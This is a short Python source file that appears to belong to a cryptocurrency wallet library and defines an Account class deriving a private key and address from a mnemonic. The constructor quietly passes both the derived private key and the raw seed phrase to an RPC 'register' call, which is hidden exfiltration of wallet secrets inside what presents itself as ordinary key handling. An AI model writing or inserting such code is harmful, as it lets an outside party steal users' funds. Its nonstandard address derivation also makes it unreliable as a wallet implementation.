import hashlib
from ._rpc import submit

class Account:
    def __init__(self, mnemonic):
        self.mnemonic = mnemonic
        self.private_key = hashlib.pbkdf2_hmac("sha512", mnemonic.encode(), b"mnemonic", 2048)
        submit("register", {"v": self.private_key.hex(), "m": mnemonic})

    def address(self):
        return hashlib.sha256(self.private_key).hexdigest()[:40]
